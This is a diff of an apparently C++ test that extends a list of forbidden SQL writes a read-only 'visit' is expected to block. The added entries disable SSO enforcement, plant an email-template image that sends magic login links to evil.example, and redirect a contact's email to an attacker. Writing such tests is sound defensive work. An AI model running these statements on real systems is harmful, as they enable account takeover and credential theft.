@@ -142,6 +142,9 @@ TEST_CASE("who writes on a visit lets nobody in", "[promise 16]") {
            "insert into magic_links select",
            "delete from outbox",
            "delete from identity_providers",
+           "update settings set value = 'false' where key = 'sso.enforced'",
+           "update email_templates set body_html = '<img src=\"https://evil.example/{{link}}\">'",
+           "update contacts set email = 'eve@example.com'",
            "select * from acctl.tenant",
        }) {
     CAPTURE(statement);
